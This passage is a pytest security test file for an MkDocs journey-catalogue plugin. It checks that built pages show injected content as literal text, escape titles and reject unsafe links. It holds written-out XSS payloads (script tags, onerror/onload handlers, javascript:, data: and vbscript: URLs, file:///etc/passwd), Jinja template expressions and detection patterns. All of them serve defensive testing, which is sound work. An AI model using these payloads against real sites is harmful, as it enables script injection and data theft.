"""Security: hostile text everywhere stays text, links stay safe, limits hold, sources stay untouched.

The hostile catalogue in tests/fixtures/hostile/ puts an injection payload into every text field of every
map and persona, into the Markdown bodies and into the channel labels of its mkdocs.yml. It must validate,
build with --strict and, in a real headless Chromium, show every payload as literal text without running
any of it: no dialog, no console error, no request off the local server, no `window.__xss`, and no
script, event-handler attribute or dangerous URL in the DOM beyond Material's own inline scripts.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import functools
import hashlib
import html
import io
import json
import re
import shutil
import threading
import tracemalloc
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from journey_catalogue.authoring.starters import STARTERS_ROOT, add_starter_templates
from journey_catalogue.charts.split import COMMON, join
from journey_catalogue.cli.main import COMMANDS, main
from journey_catalogue.format.channels import ChannelVocabulary
from journey_catalogue.format.loader import load_catalogue
from journey_catalogue.format.model import step_number
from journey_catalogue.render.markdown_body import BodyRenderer, is_safe_link

from conftest import ROOT, PageWatch, build_site, shared_site, toggle_palette

HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
TODAY = dt.date(2026, 11, 23)
SITE_NAME = "Hostile catalogue"

# -- the payloads ---------------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
WINDOW_XSS = '<img src=x onerror="window.__xss=1">'
JINJA = "{{ 7*7 }}"
PAYLOADS: dict[str, str] = {
    "script": SCRIPT,
    "img-onerror": "<img src=x onerror=alert(1)>",
    "close-script": "</script><script>alert(1)</script>",
    "svg-double-quote": '"><svg onload=alert(1)>',
    "svg-single-quote": "'><svg onload=alert(1)>",
    "close-title": "</title><script>alert(1)</script>",
    "javascript-url": "javascript:alert(1)",
    "data-url": "data:text/html,<script>alert(1)</script>",
    "html-entities": "&lt;b&gt;&amp;",
    "jinja-expression": JINJA,
    "jinja-raw": "{% raw %}",
    "echarts-rich-text": "{a|x} {b}",
    "window-xss": WINDOW_XSS,
    "long-10000": SCRIPT * 400,
    "right-to-left": "مرحبا שלום \u202egnp.exe" + SCRIPT,
}
assert len(PAYLOADS["long-10000"]) == 10_000

MAP_IDS = sorted(p.stem for p in (HOSTILE / "journeys" / "maps").glob("*.md"))
PERSONA_IDS = sorted(p.stem for p in (HOSTILE / "journeys" / "personas").glob("*.md"))
INDEX_PAGES = ["maps/", "personas/", "templates/"]
# The plugin adds its starter templates (and their personas) to the site: they show the hostile channel
# labels, so the browser walks their pages too.
STARTER_PAGES = [
    f"{kind}/{p.stem}/" for kind in ("maps", "personas") for p in STARTERS_ROOT.glob(f"{kind}/*.md")
]
PAGES = (
    INDEX_PAGES
    + [f"maps/{m}/" for m in MAP_IDS]
    + [f"personas/{p}/" for p in PERSONA_IDS]
    + sorted(STARTER_PAGES)
)

# What the Markdown bodies of the hostile files must show as text (raw HTML is off by default).
BODY_LITERALS = [
    f"Story {SCRIPT} and {WINDOW_XSS} in a paragraph.",
    "<script>window.__xss = 1</script>",
    '<div onmouseover="window.__xss=1">raw block <img src=x onerror=alert(1)></div>',
    '<a href="javascript:window.__xss=1">raw anchor</a>',
    f"Template text {JINJA} and {{% raw %}} and rich text {{a|x}} {{b}}.",
]

# Everything the payloads could inject, and then some: event handlers are checked on every attribute.
DOM_AUDIT = """() => {
  const inline = [...document.querySelectorAll('script:not([src])')].map(s => s.textContent);
  const injected = [...document.querySelectorAll(
      'script:not([src]), svg[onload], img[onerror], [onerror], [onload], iframe, object, embed, base, '
      + 'meta[http-equiv], form[action], [formaction], [srcdoc]')]
    .filter(e => e.tagName !== 'SCRIPT').map(e => e.outerHTML.slice(0, 200));
  const handlers = [];
  for (const e of document.querySelectorAll('*')) {
    for (const a of e.attributes) {
      if (!/^on/i.test(a.name)) continue;
      handlers.push(e.tagName + ' ' + a.name + '=' + a.value);
    }
  }
  const urls = [];
  for (const e of document.querySelectorAll('[href], [src], [action], [data], [poster]')) {
    for (const name of ['href', 'src', 'action', 'data', 'poster']) {
      const value = e.getAttribute(name);
      if (value === null) continue;
      let protocol = '';
      try { protocol = new URL(value, document.baseURI).protocol; } catch (err) { protocol = 'invalid:'; }
      // a blob: URL the page made itself (the editor's download) is its own data
      if (protocol === 'blob:' && new URL(value).origin === location.origin) continue;
      if (!['http:', 'https:', 'mailto:'].includes(protocol)) urls.push(e.tagName + ' ' + name + '=' + value);
    }
  }
  const scripts = [...document.querySelectorAll('script[src]')].map(s => s.src)
    .filter(src => new URL(src).origin !== location.origin);
  return {inline, injected, handlers, urls, scripts, xss: typeof window.__xss};
}"""


def norm(text: str) -> str:
    """Whitespace as innerText collapses it."""
    return " ".join(text.split())


def normalise_inline_script(text: str) -> str:
    """Material's inline scripts differ between pages only in the relative path to the site root."""
    text = re.sub(r'"(?:\.\.(?:/\.\.)*|\.)"', '"BASE"', text)
    return re.sub(r'(?<=")(?:\.\./)+', "", text)


def channel_options() -> dict[str, dict]:
    """The `channels` option of the hostile mkdocs.yml: labels and icons carry payloads too."""
    config = yaml.safe_load((HOSTILE / "mkdocs.yml").read_text(encoding="utf-8"))
    (options,) = [p["journeys"] for p in config["plugins"] if isinstance(p, dict) and "journeys" in p]
    return options["channels"]


def site_channels() -> ChannelVocabulary:
    return ChannelVocabulary.build(channel_options())


@functools.cache
def hostile_catalogue():
    catalogue = load_catalogue(HOSTILE / "journeys", channels=site_channels(), base=HOSTILE, today=TODAY)
    assert catalogue.problems == [], [str(p) for p in catalogue.problems]
    return catalogue


@functools.cache
def site_catalogue():
    """What the hostile site is built from: the hostile files and the starter templates the plugin adds."""
    catalogue = load_catalogue(HOSTILE / "journeys", channels=site_channels(), base=HOSTILE, today=TODAY)
    add_starter_templates(catalogue, TODAY)
    return catalogue


def text_fields(catalogue) -> list[tuple[str, str]]:
    """Every free-text field of the catalogue as (field kind, value): what the payloads must go through."""
    out: list[tuple[str, str]] = []
    for journey in catalogue.maps.values():
        m = journey.meta
        out += [("map.title", m.title), ("map.summary", m.summary), ("map.industry", m.industry)]
        out += [("map.owner", m.owner), ("map.body", journey.body)] + [("map.tags[]", t) for t in m.tags]
        for source in m.sources:
            out += [("source.title", source.title), ("source.url", source.url or "")]
        for stage in m.stages:
            out += [("stage.name", stage.name), ("stage.goal", stage.goal or "")]
            out += [("stage.needs[]", n) for n in stage.needs]
            for kpi in stage.kpis:
                out += [("kpi.name", kpi.name), ("kpi.value", kpi.value), ("kpi.target", kpi.target or "")]
            for step in stage.steps:
                out += [("step.action", step.action), ("step.feeling", step.feeling or "")]
                out += [("step.thought", step.thought or "")]
                out += [("step.backstage[]", b) for b in step.backstage]
                for kind, entries in (("pain", step.pains), ("opportunity", step.opportunities)):
                    for entry in entries:
                        if isinstance(entry, str):
                            out.append((f"step.{kind} (plain)", entry))
                        else:
                            out.append((f"step.{kind}.text", entry.text))
    for persona in catalogue.personas.values():
        p = persona.meta
        out += [("persona.name", p.name), ("persona.role", p.role), ("persona.quote", p.quote or "")]
        out += [("persona.image", p.image or ""), ("persona.body", persona.body)]
        out += [("persona.goals[]", g) for g in p.goals] + [
            ("persona.frustrations[]", f) for f in p.frustrations
        ]
    for channel_id, spec in channel_options().items():
        out += [("channel.label", spec.get("label", "")), ("channel.icon", spec.get("icon", channel_id))]
    return out


def exercised() -> tuple[set[str], set[str]]:
    """(payload names, field kinds) that the hostile catalogue actually carries."""
    payloads, fields = set(), set()
    for kind, value in text_fields(hostile_catalogue()):
        for name, payload in PAYLOADS.items():
            if payload in value:
                payloads.add(name)
                fields.add(kind)
    return payloads, fields


# -- the hostile site, built and served --------------------------------------------------------------


def _copy_hostile(target: Path) -> Path:
    shutil.copytree(HOSTILE, target)
    config = target / "mkdocs.yml"
    config.write_text(config.read_text().replace("../../../theme_overrides", str(ROOT / "theme_overrides")))
    return target


@pytest.fixture(scope="session")
def hostile_site(tmp_path_factory):
    """The hostile catalogue built with --strict for, and served at, http://127.0.0.1:PORT/."""

    def build(work, url):
        build_site(_copy_hostile(work / "catalogue") / "mkdocs.yml", work / "site", url, strict=True)

    with shared_site(tmp_path_factory, "hostile", build) as (work, url):
        yield {"url": url, "site": work / "site", "catalogue": work / "catalogue"}


@pytest.fixture
def hostile_page(new_tab, hostile_site):
    page = new_tab()
    watch = PageWatch(page, hostile_site["url"])
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    return page, watch, requests


def generated_html(site: Path) -> list[Path]:
    return sorted(
        p for folder in ("maps", "personas", "templates") for p in (site / folder).rglob("*.html")
    ) + [site / "index.html"]


def allowed_inline_scripts(site: Path) -> list[str]:
    """Material's own inline scripts, from the home page (plain Markdown, no journey text at all)."""
    home = (site / "index.html").read_text(encoding="utf-8")
    assert "alert(" not in home and "__xss" not in home
    scripts = re.findall(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", home, re.S)
    assert len(scripts) == 4, "Material's inline scripts changed: review this allowlist"
    return sorted(normalise_inline_script(s) for s in scripts)


# -- the corpus itself ---------------------------------------------------------------------------------


def test_the_hostile_catalogue_validates_and_carries_every_payload_in_every_field():
    catalogue = hostile_catalogue()
    assert sorted(catalogue.maps) == MAP_IDS and sorted(catalogue.personas) == PERSONA_IDS
    payloads, fields = exercised()
    assert payloads == set(PAYLOADS), f"payloads not in the corpus: {set(PAYLOADS) - payloads}"
    kinds = {kind for kind, _ in text_fields(catalogue)}
    assert fields == kinds, f"fields without a payload: {kinds - fields}"
    journeys = catalogue.maps
    assert any(m.meta.template for m in journeys.values()), "the gallery needs a template"
    assert any(s.next for m in journeys.values() for s in m.meta.stages), "a map should loop with next"
    assert any(
        isinstance(st.emotion, dict) for m in journeys.values() for s in m.meta.stages for st in s.steps
    )


def test_the_cli_validates_the_hostile_catalogue():
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        code = main(["validate", "--strict", "--config", str(HOSTILE / "mkdocs.yml")])
    assert code == 0, out.getvalue()
    assert "4 maps, 4 personas: valid" in out.getvalue()


def test_the_browser_walks_every_generated_page(hostile_site):
    """PAGES, which the browser test below walks, is every page the plugin generates."""
    site = hostile_site["site"]
    generated = {
        f"{page.parent.relative_to(site).as_posix()}/"
        for folder in ("maps", "personas", "templates")
        for page in (site / folder).rglob("index.html")
    }
    assert generated == set(PAGES)


# -- the built HTML --------------------------------------------------------------------------------


class _MarkupAudit(HTMLParser):
    """What a page's markup really holds, as a browser's parser sees it (attribute values decoded)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.handlers: list[str] = []
        self.unsafe_urls: list[str] = []
        self.inline_scripts: list[str] = []
        self.embeds: list[str] = []
        self._in_inline_script = False

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"<{tag} {name}={value!r}>")
            is_url = name in ("href", "src", "action", "formaction", "data", "poster")
            if is_url and value is not None and not is_safe_link(value):
                self.unsafe_urls.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "object", "embed", "base", "frame") or (
            tag == "meta" and "http-equiv" in values
        ):
            self.embeds.append(tag)
        self._in_inline_script = tag == "script" and "src" not in values
        if self._in_inline_script:
            self.inline_scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_inline_script = False

    def handle_data(self, data):
        if self._in_inline_script:
            self.inline_scripts[-1] += data


# The one event-handler attribute the product itself writes: the filter form never submits.


def test_no_generated_page_contains_an_unescaped_payload(hostile_site):
    site = hostile_site["site"]
    allowed = allowed_inline_scripts(site)
    raw_markup = [
        "</title><script>",
        "<script>alert(1)",
        "<script>window.__xss",
        "<img src=x",
        "<svg onload",
        "<div onmouseover",
        '<a href="javascript:',
    ]
    for path in generated_html(site):
        where = path.relative_to(site)
        text = path.read_text(encoding="utf-8")
        for needle in raw_markup:
            assert needle not in text, f"{where} contains {needle!r} unescaped"
        audit = _MarkupAudit()
        audit.feed(text)
        audit.close()
        assert audit.handlers == [], f"{where}: event-handler attributes {audit.handlers[:3]}"
        assert audit.unsafe_urls == [], f"{where}: unsafe URLs {audit.unsafe_urls[:3]}"
        assert audit.embeds == [], f"{where}: {audit.embeds}"
        assert sorted(normalise_inline_script(s) for s in audit.inline_scripts) == allowed, where


@pytest.mark.parametrize("kind,item", [("map", m) for m in MAP_IDS] + [("persona", p) for p in PERSONA_IDS])
def test_title_carries_the_escaped_payload(hostile_site, kind, item):
    catalogue = hostile_catalogue()
    if kind == "map":
        name, folder = catalogue.maps[item].meta.title, "maps"
    else:
        name, folder = catalogue.personas[item].meta.name, "personas"
    text = (hostile_site["site"] / folder / item / "index.html").read_text(encoding="utf-8")
    (title,) = re.findall(r"<title>(.*?)</title>", text, re.S)
    assert html.unescape(title) == f"{name} - {SITE_NAME}"
    assert "<" not in title and ">" not in title
    assert text.count("<title>") == 1 and text.count("</title>") == 1


@pytest.mark.parametrize("map_id", MAP_IDS)
def test_chart_json_round_trips_the_payloads_exactly(hostile_site, map_id):
    journey = hostile_catalogue().maps[map_id]
    text = (hostile_site["site"] / "maps" / map_id / "index.html").read_text(encoding="utf-8")
    (raw,) = re.findall(r"data-jc-chart='([^']*)'", text)
    assert "<" not in raw and ">" not in raw and "'" not in raw
    payload = join(COMMON, json.loads(html.unescape(raw)))
    steps = [(stage, step) for stage in journey.meta.stages for step in stage.steps]
    # Only step numbers: tooltips take each step's text from the table (checked in the browser below).
    assert payload["steps"] == [
        step_number(s, t) for s, stage in enumerate(journey.meta.stages) for t in range(len(stage.steps))
    ]
    lanes = payload["options"]["yAxis"][0]["data"]
    assert lanes == [c.label for c in site_channels() if any(c.id in st.touchpoints for _, st in steps)]
    assert any("<script>" in label for label in lanes) or "archived" in map_id
    bands = [
        d[0]["name"]
        for s in payload["options"]["series"]
        for d in s.get("markArea", {}).get("data", [])
        if d[0].get("name")
    ]
    assert bands == [stage.name for stage in journey.meta.stages]


def test_search_index_keeps_titles_escaped(hostile_site):
    index = json.loads((hostile_site["site"] / "search" / "search_index.json").read_text(encoding="utf-8"))
    for doc in index["docs"]:
        assert "<script>" not in doc["title"] and "<img" not in doc["title"], doc["title"][:100]


# -- in a real browser ------------------------------------------------------------------------------


def expected_texts(page_url: str) -> list[str]:
    """What a page must show, literally, as text."""
    catalogue = site_catalogue()
    channels = catalogue.channels
    personas = catalogue.personas
    listed = [m for m in catalogue.maps.values() if not m.meta.template]
    if page_url == "maps/":
        return [
            t
            for m in listed
            for t in [m.meta.title, m.meta.summary, m.meta.industry]
            + [personas[p].meta.name for p in m.meta.personas]
        ]
    if page_url == "personas/":
        return [t for p in personas.values() for t in (p.meta.name, p.meta.role, p.meta.quote or "")]
    if page_url == "templates/":
        return [
            t
            for m in catalogue.maps.values()
            if m.meta.template
            for t in [m.meta.title, m.meta.summary] + [s.name for s in m.meta.stages]
        ]
    kind, item = page_url.strip("/").split("/")
    bodies = [] if page_url in STARTER_PAGES else BODY_LITERALS  # the starters' bodies are the product's
    if kind == "personas":
        p = personas[item].meta
        maps = [m.meta.title for m in catalogue.maps.values() if item in m.meta.personas]
        return (
            [p.name, p.role, p.quote or ""]
            + p.goals
            + p.frustrations
            + [channels.get(c).label for c in p.channels]
            + maps
            + bodies
        )
    m = catalogue.maps[item].meta
    texts = [m.title, m.summary, m.industry, m.owner] + [f"#{t}" for t in m.tags]
    texts += [personas[p].meta.name for p in m.personas] + [s.title for s in m.sources] + bodies
    for stage in m.stages:
        texts += [stage.name, stage.goal or ""] + stage.needs
        texts += [t for k in stage.kpis for t in (k.name, k.value, k.target or "")]
        for step in stage.steps:
            texts += [step.action, step.feeling or "", step.thought or ""] + step.backstage
            texts += [p.text for p in step.pain_items()] + [o.text for o in step.opportunity_items()]
            texts += [channels.get(c).label for c in step.touchpoints]
    return texts


def assert_page_is_clean(page, watch, requests, allowed_scripts: list[str], where: str):
    audit = page.evaluate(DOM_AUDIT)
    assert audit["xss"] == "undefined", f"{where}: window.__xss was set"
    assert sorted(normalise_inline_script(s) for s in audit["inline"]) == allowed_scripts, where
    assert audit["injected"] == [], f"{where}: injected elements {audit['injected']}"
    assert audit["handlers"] == [], f"{where}: event-handler attributes {audit['handlers']}"
    assert audit["urls"] == [], f"{where}: unsafe URLs {audit['urls']}"
    assert audit["scripts"] == [], f"{where}: off-site scripts {audit['scripts']}"
    payload_requests = [
        r
        for r in requests
        if "example.invalid" in r
        or r.startswith(("javascript:", "vbscript:"))
        or "alert" in r.split("?")[0]
        or (r.startswith("data:") and ("html" in r or "alert" in r))
    ]
    assert payload_requests == [], f"{where}: requests to payload URLs {payload_requests}"
    watch.assert_clean()


# innerText leaves out what content-visibility: auto skips: cards just unhidden by a filter, until the next
# rendering update finds them on screen. Reading waits until every displayed such element is rendered.
SKIPPED_CONTENT = """() => [...document.querySelectorAll('*')]
  .filter((e) => e.firstElementChild && getComputedStyle(e).contentVisibility === 'auto')
  .filter((e) => e.checkVisibility())
  .filter((e) => !e.firstElementChild.checkVisibility({contentVisibilityAuto: true}))
  .map((e) => e.className)"""


def assert_shows_literally(page, texts: list[str], where: str):
    page.wait_for_function(f"() => ({SKIPPED_CONTENT})().length === 0", timeout=5000)
    shown = norm(page.evaluate("() => document.body.innerText"))
    missing = [t[:80] for t in texts if t and norm(t) not in shown]
    assert missing == [], f"{where}: not shown as text: {missing}"
    if any(JINJA in t for t in texts):
        assert "49" not in shown, f"{where}: a template expression was evaluated"


def wait_for_chart(page, timeout=10_000):
    page.wait_for_selector(".jc-chart[data-jc-drawn] canvas", timeout=timeout)
    page.wait_for_timeout(100)


TOOLTIP_STEP = """(number) => {
  const box = document.querySelector('.jc-echarts-tooltip');
  if (!box || getComputedStyle(box).display === 'none' || box.style.opacity === '0') return false;
  const stage = box.querySelector('.jc-tooltip-stage');
  return !!stage && stage.textContent.startsWith(number + ' · ');
}"""


def expected_tooltips(map_id: str) -> list[dict]:
    """What each step's tooltip must show, straight from the map file."""
    catalogue = site_catalogue()
    names = {p.id: p.meta.name for p in catalogue.personas.values()}
    return [
        {
            "number": step_number(s, t),
            "stage": stage.name,
            "action": step.action,
            "feeling": step.feeling or "",
            "thought": step.thought or "",
            "pains": [p.text for p in step.pain_items()],
            "opportunities": [o.text for o in step.opportunity_items()],
            "emotion": [names.get(p, p) for p in step.emotion]
            if isinstance(step.emotion, dict)
            else []
            if step.emotion is None
            # a neutral emotion reads 0, not +0 (issue 26)
            else [f"Emotion: {step.emotion:+d}".replace("-", "\u2212").replace("+0", "0")],
        }
        for s, stage in enumerate(catalogue.maps[map_id].meta.stages)
        for t, step in enumerate(stage.steps)
    ]


# A point in step INDEX's column of the emotion grid between emotion levels: a click there shows the step
# in the table (a click on a marker would open the step's detail map instead).
OFF_THE_MARKERS = """(index) => {
  const container = document.querySelector('.jc-chart');
  const [x, y] = echarts.getInstanceByDom(container).convertToPixel({gridIndex: 1}, [index, 0.25]);
  const box = container.getBoundingClientRect();
  return [box.left + x, box.top + y];
}"""
STEP_IN_VIEW = """(id) => {
  const box = document.getElementById(id).getBoundingClientRect();
  return box.height > 0 && box.top >= 0 && box.bottom <= innerHeight;
}"""


def emotion_point(box: dict, grid: list[dict], index: int, count: int) -> tuple[float, float]:
    """Where step INDEX (of COUNT) sits on the page, in the middle of the chart's emotion grid."""
    emotion = grid[1]
    width = box["width"] - emotion["left"] - emotion["right"]
    x = box["x"] + emotion["left"] + width * (index + 0.5) / count
    return x, box["y"] + emotion["top"] + emotion["height"] / 2


def hover_every_step(page, where: str, *, ends_only: bool = False):
    """Moves over each step in the emotion grid and checks that the tooltip shows its text literally."""
    payload = page.evaluate("() => journeyCatalogue.chartPayload(document.querySelector('.jc-chart'))")
    grid = payload["options"]["grid"]
    expected = expected_tooltips(where.split("/")[1])
    assert payload["steps"] == [step["number"] for step in expected]
    page.evaluate("() => document.querySelector('.jc-chart').scrollIntoView({block: 'center'})")
    page.wait_for_timeout(100)
    box = page.locator(".jc-chart").bounding_box()
    assert box["y"] >= 0 and box["y"] + box["height"] <= 900, "the chart must fit the viewport"
    steps = expected
    for i, step in enumerate(steps):
        if ends_only and 0 < i < len(steps) - 1:
            continue
        page.mouse.move(*emotion_point(box, grid, i, len(steps)))
        page.wait_for_function(TOOLTIP_STEP, arg=step["number"], timeout=10_000)
        shown = norm(page.locator(".jc-echarts-tooltip .jc-tooltip").inner_text())
        wanted = [f"{step['number']} · {step['stage']}", step["action"], step["thought"]]
        wanted += step["pains"] + step["opportunities"] + step["emotion"]
        if step["feeling"]:
            wanted.append(f"Feeling: {step['feeling']}")
        missing = [w[:80] for w in wanted if w and norm(w) not in shown]
        assert missing == [], f"{where} step {step['number']}: tooltip lacks {missing}"
        assert "49" not in shown or JINJA not in json.dumps(step)
    page.mouse.move(1, 1)


def exercise_filters(page, where: str):
    """Every catalogue select to each of its options; every option must keep some card visible."""
    page.select_option("select[name=status]", "all")
    selects = page.eval_on_selector_all(
        "select[data-jc-filter], select[data-jc-sort]",
        "ss => ss.map(s => [s.name, [...s.options].map(o => o.value)])",
    )
    assert len(selects) == 8  # the hostile catalogue has a future state, so the State filter is there too
    for name, values in selects:
        for value in values:
            page.select_option(f"select[name='{name}']", value)
            shown = page.eval_on_selector_all("[data-jc-card]:not([hidden])", "cs => cs.length")
            assert shown >= 1, f"{where}: {name}={value[:60]!r} shows no map"
            if name in ("persona", "channel", "tag", "state") and value:
                assert page.eval_on_selector_all(
                    "[data-jc-card]:not([hidden])",
                    "(cs, [k, v]) => cs.every(c => JSON.parse(c.getAttribute('data-' + k)).includes(v))",
                    [name, value],
                )
            elif name in ("segment", "industry") and value:
                assert page.eval_on_selector_all(
                    "[data-jc-card]:not([hidden])",
                    "(cs, [k, v]) => cs.every(c => c.getAttribute('data-' + k) === v)",
                    [name, value],
                )
        page.select_option(f"select[name='{name}']", "all" if name == "status" else values[0])


@pytest.mark.browser
@pytest.mark.parametrize("page_url", PAGES)
def test_every_generated_page_shows_payloads_as_text_and_runs_none(hostile_page, hostile_site, page_url):
    page, watch, requests = hostile_page
    allowed = allowed_inline_scripts(hostile_site["site"])
    page.goto(hostile_site["url"] + page_url)
    page.wait_for_load_state("load")
    where = page_url
    kind = page_url.split("/")[0]
    is_map = kind == "maps" and page_url != "maps/"
    if is_map:
        wait_for_chart(page)
        assert page.locator(".jc-chart-fallback").count() == 0
        hover_every_step(page, where)
        # a click on a step scrolls to its column in the table
        page.mouse.click(*page.evaluate(OFF_THE_MARKERS, 0))
        # (the highlight lasts 1.6 s, maybe before the table's content-visibility lets it count as visible)
        page.wait_for_selector("#step-1-1.jc-highlight", state="attached", timeout=3000)
        page.wait_for_function(STEP_IN_VIEW, arg="step-1-1", timeout=5000)
    if page_url == "maps/":
        exercise_filters(page, where)
        page.select_option("select[name=status]", "all")
    if page_url == "templates/":
        page.click("[data-jc-copy] >> nth=0")
        page.wait_for_function(
            "() => /Cop(ied|y failed)/.test(document.querySelector('[data-jc-copy]').textContent)"
        )
    assert_shows_literally(page, expected_texts(page_url), where)
    if kind in ("maps", "personas") and page_url not in INDEX_PAGES:
        catalogue = site_catalogue()
        item = page_url.split("/")[1]
        name = catalogue.maps[item].meta.title if kind == "maps" else catalogue.personas[item].meta.name
        assert page.title() == f"{name} - {SITE_NAME}"
    assert_page_is_clean(page, watch, requests, allowed, where)
    # the page scripts draw again in the other scheme (the light one drew at load): payloads stay text there
    assert toggle_palette(page) == "slate"
    if is_map:
        wait_for_chart(page)
        hover_every_step(page, where + " (dark)", ends_only=True)
    page.wait_for_timeout(200)
    assert_page_is_clean(page, watch, requests, allowed, where + " after the palette toggle")


@pytest.mark.browser
def test_tag_chips_with_payloads_filter_the_catalogue(hostile_page, hostile_site):
    page, watch, requests = hostile_page
    allowed = allowed_inline_scripts(hostile_site["site"])
    catalogue = hostile_catalogue()
    journey = catalogue.maps["per-persona-journey"]
    for tag in journey.meta.tags:
        page.goto(hostile_site["url"] + "maps/per-persona-journey/")
        page.locator("a.jc-chip--tag").filter(has_text=f"#{tag}").first.click()
        page.wait_for_url(re.compile(r".*/maps/\?tag="))
        page.wait_for_function(
            "(t) => document.querySelector('select[name=tag]')?.value === t", arg=tag, timeout=5000
        )
        titles = page.eval_on_selector_all(
            "[data-jc-card]:not([hidden]) .jc-card-title", "cs => cs.map(c => c.innerText)"
        )
        assert journey.meta.title in titles
        # and the filtered URL survives a reload
        page.reload()
        assert page.eval_on_selector("select[name=tag]", "s => s.value") == tag
        assert_page_is_clean(page, watch, requests, allowed, f"catalogue ?tag={tag}")


@pytest.mark.browser
def test_search_results_show_payloads_as_text(hostile_page, hostile_site):
    page, watch, requests = hostile_page
    allowed = allowed_inline_scripts(hostile_site["site"])
    page.goto(hostile_site["url"])
    page.click("input.md-search__input")
    for query in ("Buyer", "Action", "Story", "Source", "Template", "Summary"):
        page.fill("input.md-search__input", "")
        page.type("input.md-search__input", query, delay=20)
        page.wait_for_function(
            "(q) => [...document.querySelectorAll('.md-search-result__item mark')]"
            ".some(m => m.textContent.toLowerCase() === q.toLowerCase())",
            arg=query,
            timeout=10_000,
        )
        shown = page.locator(".md-search-result").inner_text()
        assert SCRIPT in shown, f"search for {query!r}: results do not show the payload as text"
        assert_page_is_clean(page, watch, requests, allowed, f"search {query!r}")


@pytest.mark.browser
def test_swimlane_tooltip_shows_the_hovered_step(hostile_page, hostile_site):
    page, _, _ = hostile_page
    page.goto(hostile_site["url"] + "maps/looping-journey/")
    wait_for_chart(page)
    payload = page.evaluate("() => journeyCatalogue.chartPayload(document.querySelector('.jc-chart'))")
    grid, steps = payload["options"]["grid"], payload["steps"]
    page.evaluate("() => document.querySelector('.jc-chart').scrollIntoView({block: 'center'})")
    page.wait_for_timeout(100)
    box = page.locator(".jc-chart").bounding_box()
    shown = []
    for i in range(len(steps)):
        x = (
            box["x"]
            + grid[0]["left"]
            + (box["width"] - grid[0]["left"] - grid[0]["right"]) * (i + 0.5) / len(steps)
        )
        page.mouse.move(x, box["y"] + grid[0]["top"] + 14)  # the first lane's row
        page.wait_for_timeout(400)
        shown.append(
            page.evaluate("() => document.querySelector('.jc-tooltip-stage')?.textContent.split(' ')[0]")
        )
    assert shown == steps


# What the page script builds on a map page from the page itself (issue 29: no longer carried by it): each
# source's steps, and the chart's download buttons. Every node, as markup, so that nothing else slips in.
SCRIPT_BUILT = """() => ({
  citations: Object.fromEntries([...document.querySelectorAll('.jc-sources > li')].map((li) => [li.id,
    [...li.querySelectorAll('.jc-citations')].map((p) => [...p.childNodes]
      .map((n) => n.nodeType === Node.TEXT_NODE ? n.textContent : n.outerHTML))])),
  downloads: [...document.querySelectorAll('[data-jc-downloads]')].map((box) => box.outerHTML),
})"""


def _script_built(map_id: str) -> dict:
    """What SCRIPT_BUILT must read on the page of `map_id`, from the map file."""
    journey = site_catalogue().maps[map_id]
    cited: dict[str, dict[str, list[str]]] = {s.id: {} for s in journey.meta.sources}
    for placed in journey.steps():
        for kind, items in (("pain", placed.step.pain_items()), ("opp", placed.step.opportunity_items())):
            for ref in (ref for item in items for ref in item.sources):
                steps = cited[ref].setdefault(kind, [])
                if placed.number not in steps:
                    steps.append(placed.number)
    nouns = {"pain": "pain points at step", "opp": "opportunities at step"}
    citations = {}
    for ref, kinds in cited.items():
        nodes: list[str] = ["Cited by "] if kinds else []
        for k, (kind, steps) in enumerate(kinds.items()):
            nodes.append(("; by " if k else "") + nouns[kind] + ("s " if len(steps) > 1 else " "))
            for i, number in enumerate(steps):
                nodes += [", "] if i else []
                nodes.append(f'<a href="#step-{number.replace(".", "-")}">{number}</a>')
        citations[f"source-{ref}"] = [nodes + ["."]] if kinds else []
    buttons = "".join(
        f'<button type="button" class="md-button" data-jc-download="{kind}">Download {kind.upper()}</button>'
        for kind in ("png", "svg")
    )
    downloads = (
        '<p class="jc-chart-downloads" role="group" aria-label="Download the chart" '
        f'data-jc-downloads="{map_id}-chart" data-jc-ready="true">{buttons}</p>'
    )
    return {"citations": citations, "downloads": [downloads]}


@pytest.mark.browser
@pytest.mark.parametrize("map_id", [m for m in MAP_IDS if not hostile_catalogue().maps[m].meta.template])
def test_what_the_page_script_builds_on_a_map_page_is_exactly_its_markup(hostile_page, hostile_site, map_id):
    page, watch, _ = hostile_page
    page.goto(hostile_site["url"] + f"maps/{map_id}/")
    wait_for_chart(page)
    page.wait_for_selector("[data-jc-downloads]:not([hidden])")
    expected = _script_built(map_id)
    # a map with (hostile-titled) sources cites them
    assert any(expected["citations"].values()) == bool(site_catalogue().maps[map_id].meta.sources)
    assert page.evaluate(SCRIPT_BUILT) == expected
    watch.assert_clean()


# -- links -------------------------------------------------------------------------------------------

BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
]
GOOD_URLS = [
    "http://example.org/a?q=%22%3E",
    "https://example.org/a?b=c#d",
    "HTTPS://EXAMPLE.ORG/",
    "mailto:team@example.org",
    "../x.pdf",
    "/docs/a",
    "#anchor",
    "evidence/report.pdf",
    '?q="><svg onload=alert(1)>',
]
PERSONA = {"name": "Olga", "role": "Consultant", "segment": "B2B"}


def write_catalogue(root: Path, maps: dict[str, dict], personas: dict[str, dict], bodies=None) -> Path:
    journeys = root / "journeys"
    for folder, files in (("maps", maps), ("personas", personas)):
        (journeys / folder).mkdir(parents=True, exist_ok=True)
        for name, front in files.items():
            text = yaml.safe_dump(front, allow_unicode=True, sort_keys=False)
            body = (bodies or {}).get(name, "")
            (journeys / folder / f"{name}.md").write_text(f"---\n{text}---\n{body}", encoding="utf-8")
    return journeys


def small_map(**changes) -> dict:
    front = {
        "title": "A map",
        "summary": "Someone does something.",
